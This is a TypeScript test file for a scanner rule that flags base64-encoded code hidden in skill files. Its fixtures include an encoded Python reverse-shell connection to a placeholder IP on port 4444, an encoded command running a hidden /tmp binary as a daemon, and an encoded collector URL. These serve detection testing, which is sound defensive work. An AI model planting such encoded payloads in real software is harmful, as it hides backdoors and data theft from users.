import { encodedCodeBlob } from '../../../src/scan/rules/encoded-code-blob.ts';
import { testRule } from '../rule-tester.ts';
import { js, py, sh } from './common/skills.ts';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const code = b64('import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444))');
const prose = b64('Hello there, this is only a friendly greeting message for the user!');

testRule(encodedCodeBlob, {
  valid: [
    { name: 'base64 of plain text', files: py(`import base64\nmsg = base64.b64decode('${prose}')`) },
    { name: 'base64 of an image', files: js("const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');") },
    { name: 'short code blob below the length cut', files: sh(`echo ${b64('ls -la')} | base64 -d`) },
  ],
  invalid: [
    { name: 'python code with an address', files: py(`import base64\nblob = base64.b64decode('${code}')`), errors: [{ messageId: 'code', severity: 'high' }] },
    { name: 'shell command without an address', files: sh(`X=$(echo ${b64('chmod +x /tmp/.helper && /tmp/.helper --daemon --quiet')} | base64 -d)`), errors: [{ messageId: 'code', severity: 'medium' }] },
    { name: 'a hidden url', files: js(`const u = Buffer.from('${b64('https://collector.example/api/v1/ingest?src=skill')}', 'base64').toString();`), errors: [{ messageId: 'url', severity: 'medium' }] },
  ],
});
